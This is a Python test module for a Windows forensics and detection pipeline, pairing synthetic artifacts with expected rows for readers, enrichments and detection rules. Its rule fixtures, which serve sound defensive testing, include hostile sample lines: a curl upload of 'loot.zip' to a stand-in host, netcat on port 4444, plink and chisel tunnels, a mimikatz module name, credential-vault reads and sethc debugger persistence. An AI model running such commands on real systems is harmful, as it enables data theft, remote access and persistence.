"""Readers, enrichments and rule sources on small samples made here, with the rows they must give as SQL literals."""

from __future__ import annotations

import struct

from pyspark.sql import DataFrame, SparkSession

from ..detect.enrich import ENRICHMENTS
from ..detect.patterns import bundled_patterns, scan
from ..detect.sigma import bundled_rules, run_rules
from ..schema import TABLES
from ..sources import binary
from ..sources import samples as S
from ..sources.eventlog import evtx_events
from .detectorcases import OLD, T, case_of

QUERIES: dict = {}
ORACLE: dict[str, str] = {}


def literal_sql(columns: str, kinds: dict[str, str], rows: list[tuple]) -> str:
    """Rows as SQL literals of the columns' types."""
    types = {"string": "VARCHAR", "int": "INTEGER", "bigint": "BIGINT", "boolean": "BOOLEAN", "timestamp": "TIMESTAMP", "float": "FLOAT", "double": "DOUBLE"}
    names = columns.split()

    def text(v) -> str:
        if v is None:
            return "NULL"
        return str(v).lower() if isinstance(v, bool) else str(v) if isinstance(v, (int, float)) else "'" + str(v).replace("'", "''") + "'"

    body = ", ".join("(" + ", ".join(text(v) for v in r) + ")" for r in rows)
    inner = ", ".join(f"c{i}" for i in range(len(names)))
    return "SELECT " + ", ".join(f'CAST(c{i} AS {types[kinds[n]]}) AS "{n}"' for i, n in enumerate(names)) + f" FROM (VALUES {body}) AS t({inner})"


def _kinds(ddl: str) -> dict[str, str]:
    return dict(x.split(" ") for x in ddl.split(", "))


# ---- readers


def _reads(name: str, reader: str, files: list[tuple[str, bytes]], columns: str, rows: list[tuple]) -> None:
    ddl = binary.decoders()[reader][1] if reader != "evtx" else TABLES["evtx_events"]

    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        df = spark.createDataFrame([(p, bytearray(b)) for p, b in files], "path string, content binary")
        return (evtx_events(df) if reader == "evtx" else binary.decode(df, reader)).select(*columns.split())

    QUERIES[f"reader_{name}"] = run
    ORACLE[f"reader_{name}"] = literal_sql(columns, _kinds(ddl), rows)


_TIME = "2024-01-01 00:00:00"
_CACHE = "ControlSet001\\Control\\Session Manager\\AppCompatCache"
_BAGS = "Software\\Microsoft\\Windows\\Shell\\BagMRU"

_reads("evtx", "evtx", [("x/Security.evtx", S.evtx([[(4625, "bob"), (4624, "eve")], [(1102, "kim")]])), ("x/bad.evtx", b"nothing")], "record_id event_id channel computer user_sid provider timestamp message", [(i, e, "Security", "PC-7", sid, "Provider-A", f"2024-01-01 00:00:0{i}", f'{{"TargetUserName": "{u}", "IpAddress": "203.0.113.9", "LogonType": "3"}}') for i, e, u, sid in ((1, 4625, "bob", "S-1-5-21-500"), (2, 4624, "eve", None), (3, 1102, "kim", "S-1-5-21-500"))])
_reads("prefetch", "prefetch", [("CALC.EXE-1.pf", b"MAM\x04" + struct.pack("<I", len(S.prefetch_file())) + S.huffman_all_literals(S.prefetch_file())), ("b.pf", b"SCCA")], "filename path run_count last_run file_refs", [("CALC.EXE", "\\VOLUME{1}\\WINDOWS\\CALC.EXE", 4, _TIME, "\\VOLUME{1}\\WINDOWS\\CALC.EXE")])
for _i, _made in enumerate((S.cache_10, S.cache_8, S.cache_7)):
    _reads(f"shimcache_{('windows10', 'windows8', 'windows7')[_i]}", "shimcache", [("config/SYSTEM", S.hive({_CACHE: {"AppCompatCache": _made([("C:\\Temp\\x.exe", S.FT), ("C:\\y.exe", 0)])}}))], "path last_modified order_idx", [("C:\\Temp\\x.exe", _TIME, 0), ("C:\\y.exe", None, 1)])
_reads("shellbags", "shellbags", [("C/Users/ann/NTUSER.DAT", S.hive({_BAGS: {"0": b"\x19\0\x2fC:\\\0".ljust(25, b"\0"), "1": b"\0\0\xc3\x01\xc5\\\\srv\\share\0"}, f"{_BAGS}\\0": {"3": S.folder_item("LONGNA~1", "Long Name")}}))], "path user source item_type", [("C:\\", "ann", "NTUSER", "drive"), ("\\\\srv\\share", "ann", "NTUSER", "network"), ("C:\\Long Name", "ann", "NTUSER", "folder")])
_reads("registry", "hive", [("x/NTUSER.DAT", S.hive({"Software\\A": {"v": b"\x01\x02"}, "Software\\A\\B": {"w": b"abc"}})), ("y/SYSTEM", b"regf")], "hive key_path value_name value_type value_data", [("NTUSER.DAT", "Software\\A", "v", "REG_BINARY", "0102"), ("NTUSER.DAT", "Software\\A\\B", "w", "REG_BINARY", "616263")])
_reads("links", "lnk", [("Recent/a.lnk", S.link("C:\\docs\\a.txt")), ("b.lnk", b"L")], "path target_path created modified accessed drive_serial", [("Recent/a.lnk", "C:\\docs\\a.txt", _TIME, _TIME, _TIME, "00001234")])
_reads("jumplists", "jumplists", [("x/5da8f9b674986c19.automaticDestinations-ms", S.compound({"7": S.link("C:\\only.txt"), "other": b"x"})), ("x/ab.customDestinations-ms", b"\2\0\0\0" + bytes(20) + S.link("C:\\c.txt") + S.link("C:\\d.txt"))], "app_id app_name entry_type target_path created entry_id", [("5da8f9b674986c19", "Microsoft Office Word", "automatic", "C:\\only.txt", _TIME, "7"), ("ab", "", "custom", "C:\\c.txt", _TIME, "entry_0"), ("ab", "", "custom", "C:\\d.txt", _TIME, "entry_1")])
_reads("outlook_messages", "msg", [("Inbox/a.msg", S.compound({"__substg1.0_0037001F": S.u("Hello"), "__substg1.0_1000001F": S.u("body"), "__substg1.0_5D01001F": S.u("ann@x.example"), "__properties_version1.0": bytes(32) + struct.pack("<IIq", 0x00390040, 6, S.FT), "__recip_version1.0_#00000000/__substg1.0_39FE001F": S.u("bob@x.example")}))], "folder subject from_addr to_addrs sent_at body_text has_attachments", [("Inbox", "Hello", "ann@x.example", "bob@x.example", _TIME, "body", False)])
_reads("srum_network", "srum_network", [("sru/SRUDB.dat", S.srudb()), ("x/SRUDB.dat", b"no database")], "timestamp app_id user_id user_name bytes_sent bytes_recvd iface_luid", [("2024-01-01 06:00:00", 1, 2, "S-1-5-21-500", 1 << 40, 5, 77), ("2024-01-01 06:00:00", 3, 9, None, 1, 2, None)])
_reads("srum_programs", "srum_programs", [("sru/SRUDB.dat", S.srudb())], "timestamp app_name user_name fg_cycles bg_cycles fg_context_switches bg_context_switches fg_bytes_read fg_bytes_written", [("2024-01-01 06:00:00", "\\Device\\app.exe", "S-1-5-21-500", 9, 8, 7, 6, 5, 4)])
_ONE, _JOB = bytes(range(16)), bytes(range(32, 48))
_QUEUE = S.database({"Files": ([(1, "guid", "Id"), (256, "blob", "Blob")], [{"Id": _ONE, "Blob": S.counted("C:\\a.exe") + S.counted("http://x.test/a.exe") + S.counted("C:\\t.tmp") + struct.pack("<QQ", 50, 200)}], {}), "Jobs": ([(1, "guid", "Id"), (256, "blob", "Blob")], [{"Id": _JOB, "Blob": bytes(16) + struct.pack("<iii", 0, 1, 6) + bytes(4) + _JOB + S.counted("update") + S.counted("") * 3 + S.counted("S-1-5-18") + struct.pack("<I", 1) + _ONE + struct.pack("<q", S.FT)}], {})})
_reads("bits_jobs", "bits_jobs", [("Downloader/qmgr.db", _QUEUE)], "job_guid job_name job_type state state_name priority owner created_at", [("23222120-2524-2726-2829-2a2b2c2d2e2f", "update", 0, 6, "Transferred", 1, "S-1-5-18", _TIME)])
_reads("bits_files", "bits_files", [("Downloader/qmgr.db", _QUEUE)], "job_guid file_guid remote_url local_path bytes_total bytes_xferred pct_complete", [("23222120-2524-2726-2829-2a2b2c2d2e2f", "03020100-0504-0706-0809-0a0b0c0d0e0f", "http://x.test/a.exe", "C:\\a.exe", 200, 50, 25.0)])
_DIRECTORY = S.database({"datatable": ([(256, "ltext", "ATTm590045"), (258, "blob", "ATTr589970"), (259, "i64", "ATTq589876"), (260, "i32", "ATTj589832")], [{"ATTm590045": S.u("ann"), "ATTr589970": S.SID[:-4] + S.SID[:-5:-1], "ATTq589876": struct.pack("<q", S.FT), "ATTj589832": struct.pack("<i", 0x10222)}, {"ATTm590045": S.u("ANN")}, {"ATTm590045": S.u("svc")}], {})})
_reads("directory_accounts", "ntds", [("NTDS/ntds.dit", _DIRECTORY)], "sam_account_name object_sid last_logon account_flags is_disabled is_deleted pwd_never_expires no_pwd_required", [("ann", "S-1-5-21-500", _TIME, 0x10222, True, False, True, True), ("svc", None, None, 0, False, False, False, False)])
_reads("recycle_bin", "recycle_bin", [("S-1-5-21-9/$IABC123.exe", struct.pack("<qqqi", 2, 5, S.FT, 9) + S.u("C:\\x.exe\0")), ("S-1-5-21-9/$IOLD456.txt", struct.pack("<qqq", 1, 7, S.FT) + S.u("C:\\y.txt\0").ljust(520, b"\0"))], "original_path deleted_at size sid i_file r_file", [("C:\\x.exe", _TIME, 5, "S-1-5-21-9", "$IABC123.exe", "$RABC123.exe"), ("C:\\y.txt", _TIME, 7, "S-1-5-21-9", "$IOLD456.txt", "$ROLD456.txt")])
_MAIL = b"From: Bob <b@x.example>\r\nTo: a@x.example\r\nSubject: Hi\r\nMessage-ID: <1@x>\r\nDate: Mon, 1 Jan 2024 01:00:00 +0100\r\n\r\nbody\r\n"
_reads("mails", "eml", [("Inbox/a.eml", _MAIL)], "from_addr from_name to_addrs subject message_id sent_at", [("b@x.example", "Bob", "a@x.example", "Hi", "1@x", _TIME)])
_reads("mailboxes", "mbox", [("mail/mbox", b"From a\nSubject: one\n\nx\n>From y\n\nFrom b\nSubject: two\n\nz\n")], "subject", [("one",), ("two",)])

# ---- enrichments


def _enriches(table: str, given: dict, columns: str, rows: list[tuple]) -> None:
    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        return ENRICHMENTS[table](case_of(spark, given)).select(*columns.split())

    QUERIES[f"enrich_{table}"] = run
    ORACLE[f"enrich_{table}"] = literal_sql(columns, _kinds(TABLES[table]), rows)


def _registry(*rows: tuple) -> dict:
    return {"registry_raw": ("hive key_path value_name value_type value_data modified", [(*r, T) if len(r) == 5 else r for r in rows])}


_SZ = "REG_SZ"
_USER = "HKU\\S-1-5-21-9\\ann"
_FILETIME = struct.pack("<q", S.FT).hex()
_enriches("prefetch", {"prefetch": ("filename first_seen", [("A.EXE", None), ("B.EXE", T), ("C.EXE", None), ("D.EXE-1.pf", None)]), "mft": ("path created", [("Windows/Prefetch/A.EXE-1F.pf", T), ("Windows/Prefetch/A.EXE-2E.pf", OLD), ("Windows/Prefetch/B.EXE-1.pf", OLD), ("x/C.EXE", T), ("Windows/Prefetch/d.exe-1.PF", T)])}, "filename first_seen", [("A.EXE", OLD), ("B.EXE", T), ("C.EXE", None), ("D.EXE-1.pf", T)])
_enriches("bam_dam", _registry(("SYSTEM", "ControlSet001\\Services\\bam\\State\\UserSettings\\S-1-5-21-9", "\\Device\\HarddiskVolume2\\x.exe", "REG_BINARY", _FILETIME + "00" * 16), ("SYSTEM", "ControlSet001\\Services\\dam\\UserSettings\\S-1-5-18", "\\Device\\y.exe", "REG_BINARY", _FILETIME), ("SYSTEM", "ControlSet001\\Services\\bam\\State\\UserSettings\\S-1-5-21-9", "Version", "REG_DWORD", "1"), ("SYSTEM", "ControlSet001\\Services\\bam\\State\\UserSettings\\S-1-5-21-9", "a\\short", "REG_BINARY", "00")), "path last_run sid source", [("\\Device\\HarddiskVolume2\\x.exe", _TIME, "S-1-5-21-9", "BAM"), ("\\Device\\y.exe", _TIME, "S-1-5-18", "DAM")])
_URLS = f"{_USER}\\Software\\Microsoft\\Internet Explorer\\TypedURLs"
_enriches("typed_urls", _registry(("NTUSER.DAT", _URLS, "url1", _SZ, "http://a.test"), ("NTUSER.DAT", _URLS, "url12", _SZ, "http://b.test"), ("NTUSER.DAT", _URLS, "x1", _SZ, "http://c.test"), ("NTUSER.DAT", _URLS, "url3", _SZ, None), ("NTUSER.DAT", "Software\\TypedURLs", "url1", _SZ, "http://d.test")), "url visit_order user source", [("http://a.test", 1, "ann", _URLS), ("http://b.test", 12, "ann", _URLS)])
_RUN = f"{_USER}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU"
_enriches("run_mru", _registry(("NTUSER.DAT", _RUN, "a", _SZ, "cmd\\1"), ("NTUSER.DAT", _RUN, "MRUList", _SZ, "a"), ("NTUSER.DAT", _RUN, "b", _SZ, None)), "command mru_order user modified", [("cmd\\1", "a", "ann", T)])
_RDP = f"{_USER}\\Software\\Microsoft\\Terminal Server Client\\Servers"
_enriches("rdp_client_history", _registry(("NTUSER.DAT", f"{_RDP}\\srv1", "UsernameHint", _SZ, "CORP\\ann"), ("NTUSER.DAT", f"{_RDP}\\x", "MRU0", _SZ, "srv2"), ("NTUSER.DAT", f"{_RDP}\\srv3", "CertHash", _SZ, "q"), ("NTUSER.DAT", f"{_USER}\\Software\\Other\\Servers\\srv4", "UsernameHint", _SZ, "q")), "server username user modified", [("srv1", "CORP\\ann", "ann", T), ("MRU0", "", "ann", T)])
_MUI = f"{_USER}\\Software\\Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\MuiCache"
_enriches("muicache", _registry(("UsrClass.dat", _MUI, "C:\\x.exe.FriendlyAppName", _SZ, "Tool"), ("UsrClass.dat", _MUI, "LangID", "REG_BINARY", "0904")), "exe_path description user modified", [("C:\\x.exe.FriendlyAppName", "Tool", "ann", T)])
_OPEN = f"{_USER}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ComDlg32\\OpenSavePidlMRU"
_enriches("opensave_mru", _registry(("NTUSER.DAT", f"{_OPEN}\\docx", "0", _SZ, "C:\\a.docx"), ("NTUSER.DAT", f"{_OPEN}\\docx", "MRUListEx", _SZ, "q"), ("NTUSER.DAT", f"{_OPEN}\\docx", "1", "REG_BINARY", "00")), "path extension mru_order user modified", [("C:\\a.docx", "docx", "0", "ann", T)])
_STICK = "SYSTEM\\ControlSet001\\Enum\\USBSTOR\\Disk&Ven_X&Prod_Y\\SER123&0"
_enriches("usb_history", _registry(("SYSTEM", _STICK, "FriendlyName", _SZ, "X Y Device"), ("SYSTEM", _STICK, "Mfg", _SZ, "x"), ("SYSTEM", _STICK.replace("SER123", "SER9"), "FriendlyName", _SZ, "Other"), ("SYSTEM", "SYSTEM\\MountedDevices", "\\DosDevices\\E:", "REG_BINARY", S.u("_??_USBSTOR#Disk&Ven_X&Prod_Y#SER123&0#{53f56307}").hex()), ("SYSTEM", "SYSTEM\\MountedDevices", "\\??\\Volume{1}", "REG_BINARY", S.u("#SER9&0#").hex())), "device_id friendly_name serial_number drive_letter source", [(_STICK, "X Y Device", "SER123&0", "\\DosDevices\\E:", "USBSTOR"), (_STICK.replace("SER123", "SER9"), "Other", "SER9&0", None, "USBSTOR")])
_NET = "SYSTEM\\ControlSet001\\Services\\Tcpip\\Parameters\\Interfaces"
_enriches("network_adapters", _registry(("SYSTEM", f"{_NET}\\{{G1}}", "DhcpIPAddress", _SZ, "10.0.0.5"), ("SYSTEM", f"{_NET}\\{{G1}}", "DhcpNameServer", _SZ, "10.0.0.1"), ("SYSTEM", f"{_NET}\\{{G1}}", "EnableDHCP", "REG_DWORD", "1"), ("SYSTEM", f"{_NET}\\{{G2}}", "IPAddress", _SZ, "192.168.1.2"), ("SYSTEM", f"{_NET}\\{{G2}}", "SubnetMask", _SZ, "255.255.255.0"), ("SYSTEM", f"{_NET}\\{{G3}}", "EnableDHCP", "REG_DWORD", "1"), ("SYSTEM", "SYSTEM\\ControlSet001\\Control\\Class\\{4D36E972-E325}\\0001", "DriverDesc", _SZ, "Card"), ("SYSTEM", "SYSTEM\\ControlSet001\\Control\\Class\\{4D36E972-E325}\\0001", "NetCfgInstanceId", _SZ, "{g1}")), "adapter_name ip_address subnet_mask dns_servers dhcp_enabled description source", [("{G1}", "10.0.0.5", None, "10.0.0.1", "1", "Card", "registry"), ("{G2}", "192.168.1.2", "255.255.255.0", None, None, None, "registry")])
_UN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall"
_enriches("installed_software", _registry(("SOFTWARE", f"{_UN}\\A", "DisplayName", _SZ, "Tool A"), ("SOFTWARE", f"{_UN}\\A", "DisplayVersion", _SZ, "1.2"), ("SOFTWARE", f"{_UN}\\B", "DisplayName", _SZ, "Tool B"), ("SOFTWARE", f"{_UN}\\B", "Publisher", _SZ, "Firm"), ("SOFTWARE", f"{_UN}\\C", "Publisher", _SZ, "No name")), "display_name display_version publisher user source", [("Tool A", "1.2", None, "Microsoft", "Uninstall"), ("Tool B", None, "Firm", "Microsoft", "Uninstall")])

# ---- rule sources: the bundled rule of each on a row it must find and near misses

_RULES = {r.title: r for r in bundled_rules()}
_RULE_KINDS = dict(c.split(" ") for c in "value string, source string, confidence string, related_campaign string, first_seen timestamp, notes string".split(", "))


def _rule(name: str, title: str, given: dict, value: str, confidence: str, technique: str | None, seen: str | None = T, note: str = "", number: int = 0) -> None:
    rule = _RULES[title]

    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        found, errors = run_rules(case_of(spark, given), [rule])
        if errors:
            raise ValueError(errors)
        return found.select(*_RULE_KINDS)

    QUERIES[f"rule_on_{name}"] = run
    ORACLE[f"rule_on_{name}"] = literal_sql(" ".join(_RULE_KINDS), _RULE_KINDS, [(value, f"sigma:{number:08d}", confidence, technique, seen, title + (f" — {note}" if note else ""))])


_PC = "image cmdline parent_image user_name integrity_level timestamp"
_rule("process_creation", "Script interpreter started by a document viewer", {"proc_creation": (_PC, [("C:\\W\\PowerShell.exe", "x", "C:\\O\\WINWORD.EXE", "u", "High", T), ("C:\\W\\powershell.exe", "ADDIN-check", "C:\\O\\winword.exe", "u", "High", T), ("C:\\W\\powershell.exe", "x", None, "u", "High", T), ("C:\\W\\cmd.exe", "x", "C:\\O\\winword.exe", "u", "High", T)]), "mem_pslist": ("pid name create_time", [(1, "x\\wscript.exe", T)])}, "C:\\W\\PowerShell.exe x", "HIGH", "T1204.002", note="A viewer has no need of interpreters", number=1)
_rule("sysmon_process_creation", "Archive packed with a password", {"sysmon_process": ("image cmdline timestamp", [("C:\\7z.exe", "7z a /pSecret x", T), ("C:\\7z.exe", "7z a x", T), ("C:\\zip.exe", "zip -p x", T)])}, "C:\\7z.exe 7z a /pSecret x", "MED", "T1560.001", number=2)
_rule("network_connection", "Connection to a remote shell port", {"mem_netscan": ("name remote_addr remote_port created", [("nc.exe", "203.0.113.9", 4444, T), ("nc.exe", "10.9.8.7", 4444, T), ("nc.exe", "fd12::1", 5555, T), ("nc.exe", "203.0.113.9", 443, T)])}, "nc.exe → 203.0.113.9:4444", "HIGH", "T1571", number=3)
_rule("sysmon_dns", "Name service asked by an interpreter", {"sysmon_dns": ("image query_name timestamp", [("C:\\W\\WScript.exe", "evil.test", T), ("C:\\W\\wscript.exe", "a.Microsoft.com", T), ("C:\\W\\x.exe", "evil.test", T)])}, "evil.test", "LOW", "T1071.004", number=4)
_rule("sysmon_dns_query", "Long name asked for", {"sysmon_dns": ("image query_name timestamp", [("a.exe", "a" * 30 + ".test", T), ("a.exe", "a" * 29 + ".test", T)])}, "a.exe queried " + "a" * 30 + ".test", "MED", None, number=5)
for _name, _title, _hit, _grade, _technique, _number in (("file_event", "Shared object dropped among documents", "Users/a/Documents/x.DLL", "MED", "T1574", 6), ("file_change", "Note left with demands", "Users/a/HOW_TO_DECRYPT.html", "HIGH", "T1486", 7), ("file_delete", "Event log file touched", "Windows/Security.evtx", "LOW", None, 8)):
    _rule(_name, _title, {"mft": ("path modified", [(_hit, T), ("Users/a/x.txt", T), ("Users/a/Documents/x.doc", T)])}, _hit, _grade, _technique, number=_number)
_EV = "event_id provider message timestamp"
_rule("security", "Audit policy changed", {"evtx_events": (_EV, [(4719, "Auditing", "m", T), (4718, "Auditing", "m", T)])}, "4719: m", "MED", "T1562.002", number=9)
_rule("system", "Service control with a shell", {"evtx_events": (_EV, [(7045, "SCM", "path: %comspec% /c x", T), (7045, "SCM", "path: svc.exe", T), (7040, "SCM", "cmd.exe", T)])}, "7045: path: %comspec% /c x", "HIGH", "T1543.003", number=10)
_rule("application", "Installer of an unknown source", {"evtx_events": (_EV, [(1033, "MsiInstaller", "Tool", T), (1033, "MsiInstaller", "by Contoso", T), (1033, "Other", "Tool", T), (1034, "MsiInstaller", "Tool", T)])}, "1033: Tool", "LOW", None, number=11)
_rule("sysmon", "Watcher's own configuration changed", {"evtx_events": (_EV, [(16, "Sysmon", "cfg", T), (17, "Sysmon", "cfg", T), (15, "Sysmon", "cfg", T)])}, "16: cfg", "MED", None, number=12)
_rule("powershell_classic", "Classic shell with hidden window", {"ps_scriptblock": ("script_text timestamp", [("x /WindowStyle Hidden y", T), ("x -WindowStyle Normal", T)])}, "x /WindowStyle Hidden y", "MED", "T1564.003", number=13)
_rule("ps_script", "Credential store read by a script", {"ps_scriptblock": ("script_text timestamp", [("$v = New-Object PasswordVault; $v.RetrievePassword()", T), ("PasswordVault", T)])}, "$v = New-Object PasswordVault; $v.RetrievePassword()", "HIGH", "T1555", number=14)
_rule("defender", "Threat found and left alone", {"defender_events": ("threat_name path action timestamp", [("Trojan:A", "C:\\a", "No User Action", T), ("Trojan:B", "C:\\b", "Quarantine", T), (None, "C:\\c", "Allow", T)])}, "Trojan:A | C:\\a", "HIGH", None, number=15)
_rule("auth", "Network logon of a service account", {"auth_events": ("event_id user src_ip logon_type timestamp", [(4624, "SVC_sql", "10.0.0.1", 3, T), (4624, "svc_sql", "10.0.0.1", 2, T), (4624, "bob", "10.0.0.1", 3, T)])}, "SVC_sql [4624] from 10.0.0.1", "LOW", "T1078", number=16)
_rule("sysmon_imageload", "Unsigned module from a share", {"sysmon_imageload": ("image image_loaded signed timestamp", [("a.exe", "\\\\srv\\x.dll", False, T), ("a.exe", "\\\\srv\\y.dll", True, T), ("a.exe", "C:\\z.dll", False, T)])}, "a.exe → \\\\srv\\x.dll", "HIGH", "T1574.002", number=17)
_rule("driver_load", "Driver from a user's folder", {"sysmon_imageload": ("image image_loaded signed timestamp", [("System", "C:\\Users\\a\\x.SYS", True, T), ("System", "C:\\Windows\\y.sys", True, T), ("System", "C:\\Users\\a\\x.dll", True, T)])}, "C:\\Users\\a\\x.SYS", "HIGH", "T1068", number=18)
_rule("sysmon_network_connection", "Connection of a script host", {"sysmon_network": ("image dst_ip dst_port initiated timestamp", [("C:\\W\\mshta.exe", "203.0.113.9", 443, True, T), ("C:\\W\\mshta.exe", "203.0.113.9", 8443, True, T), ("C:\\W\\mshta.exe", "203.0.113.9", 80, False, T)]), "mem_netscan": ("name remote_addr remote_port created", [])}, "C:\\W\\mshta.exe → 203.0.113.9:443", "MED", "T1105", number=19)
_RG = "hive key_path value_name value_data modified"
_rule("registry_event", "Logon program replaced", {"registry_raw": (_RG, [("SOFTWARE", "Microsoft\\Winlogon", "Shell", "evil.exe", T), ("SOFTWARE", "Microsoft\\Winlogon", "Shell", "Explorer.exe", T), ("SOFTWARE", "Microsoft\\Winlogon", "Userinit", "x", T)])}, "SOFTWARE\\Microsoft\\Winlogon\\Shell", "HIGH", "T1547.004", number=20)
_rule("registry_add", "Debugger set for a program", {"registry_raw": (_RG, [("SOFTWARE", "x\\Image File Execution Options\\sethc.exe", "Debugger", "cmd.exe", T), ("SOFTWARE", "x\\Image File Execution Options\\sethc.exe", "GlobalFlag", "1", T)])}, "SOFTWARE\\x\\Image File Execution Options\\sethc.exe\\Debugger", "HIGH", "T1546.012", number=21)
_rule("registry_set", "Macro warnings off", {"registry_raw": (_RG, [("NTUSER.DAT", "Office\\Security", "VBAWarnings", "1", T), ("NTUSER.DAT", "Office\\Other", "VBAWarnings", "2", T)])}, "NTUSER.DAT\\Office\\Security\\VBAWarnings", "MED", "T1112", number=22)
_rule("pipe_created", "Pipe of a known tool", {"evtx_events": (_EV, [(17, "Sysmon", "\\PSEXESVC", T), (17, "Sysmon", "\\psexesvc", T)])}, "\\PSEXESVC", "HIGH", "T1570", number=23)
_rule("process_tampering", "Image of a running program replaced", {"sysmon_process": ("pid image user_name timestamp", [(7, "C:\\W\\svchost.exe", "PC\\ann", T), (8, "C:\\W\\svchost.exe", "NT Authority\\System", T)])}, "C:\\W\\svchost.exe [7]", "MED", "T1055.012", number=24)
_rule("shell_history", "Archive sent to a web address", {"shell_history": ("command user timestamp", [("curl -T loot.zip http://x", "ann", T), ("curl http://x/loot.zip", "ann", T), ("scp -T loot.zip x:", "ann", T)])}, "ann: curl -T loot.zip http://x", "HIGH", "T1048", number=25)
_rule("wmi_event", "Consumer that runs commands", {"wmi_subs": ("consumer_name consumer_type filter_query created", [("c1", "CommandLineEventConsumer", "SELECT 1", T), ("c2", "LogFileEventConsumer", "SELECT 1", T)])}, "c1 | SELECT 1", "HIGH", "T1546.003", number=26)
_rule("task_scheduler", "Task from a temporary folder", {"scheduled_tasks": ("name command args last_run", [("t1", "C:\\Temp\\x.exe", "-q", T), ("t2", "C:\\Windows\\y.exe", None, T)])}, "t1: C:\\Temp\\x.exe", "MED", "T1053.005", number=27)

_PATTERN_KINDS = _kinds("source string, confidence string, related_campaign string, value string, notes string")
_PATTERN_CASE = {"ps_scriptblock": ("script_text timestamp", [("VirtualAlloc then CreateThread", T), ("VirtualAlloc", T), ("sekurlsa::x", T)]), "mem_cmdline": ("pid name cmdline", [(1, "a.exe", "plink.exe -ssh -R 8080 x"), (2, "a.exe", "plink -L 1"), (3, "b.exe", "chisel client y")]), "mft": ("path modified is_dir", [("x/100%_done.txt", T, False), ("x/100 xdone.txt", T, False)]), "browser_history": ("url visit_time", [("HTTPS://a.filedrop.test/1", T), ("https://a.test/filedrop.", T)]), "defender_events": ("threat_name path timestamp", [("Backdoor:X", "C:\\a", T)]), "evtx_events": (_EV, [(1116, "D", "Ransom:Y seen", T), (1, "D", "none", T)])}


def _patterns(spark: SparkSession, sf_dir: str) -> DataFrame:
    return scan(case_of(spark, _PATTERN_CASE), bundled_patterns()).select(*_PATTERN_KINDS)


QUERIES["bundled_patterns"] = _patterns
ORACLE["bundled_patterns"] = literal_sql(" ".join(_PATTERN_KINDS), _PATTERN_KINDS, [("yaralite:cw-p1", "HIGH", "T1620", "VirtualAlloc then CreateThread", "Reflective loading"), ("yaralite:cw-p5", "HIGH", "T1003", "sekurlsa::x", "Password dump names"), ("yaralite:cw-p2", "MED", "T1572", "a.exe plink.exe -ssh -R 8080 x", "Tunnel tools"), ("yaralite:cw-p2", "MED", "T1572", "b.exe chisel client y", "Tunnel tools"), ("yaralite:cw-p3", "LOW", None, "x/100%_done.txt", "Literal percent and underscore"), ("yaralite:cw-p4", "HIGH", "T1567", "HTTPS://a.filedrop.test/1", "Anonymous uploads"), ("yaralite:cw-p6", "HIGH", None, "Backdoor:X | C:\\a", "Known families"), ("yaralite:cw-p6", "HIGH", None, "1116: Ransom:Y seen", "Known families")])

_reads("file_table", "mft", [("$MFT", S.file_table())], "inode path size is_dir is_deleted ads_name", [(0, "$MFT", None, False, False, None), (5, "", None, True, False, None), (6, "Users", None, True, False, None), (7, "Users/ann", None, True, False, None), (8, "Users/ann/Downloads", None, True, False, None), (9, "Users/ann/Downloads/setup program.exe", 11, False, False, "Zone.Identifier"), (10, "lost.txt", None, False, False, None), (11, "b/a", None, True, False, None), (12, "a/b", None, True, False, None), (13, "Users/ann/Downloads/long name.bin", 40, False, False, "extra"), (14, "Users/ann/Downloads/deleted.txt", 3, False, True, None)])
